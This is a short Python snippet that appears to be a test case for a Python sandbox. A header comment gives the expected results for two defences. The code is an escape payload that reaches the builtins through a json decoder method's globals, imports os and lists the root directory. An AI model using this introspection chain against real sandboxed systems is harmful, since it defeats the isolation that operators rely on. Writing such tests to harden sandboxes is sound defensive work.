# fence: rejected | walls: error
import json
os = json.JSONDecoder().decode.__func__.__globals__["__builtins__"]["__import__"]("os")
print("BREACHED" if os.listdir("/") else "empty")
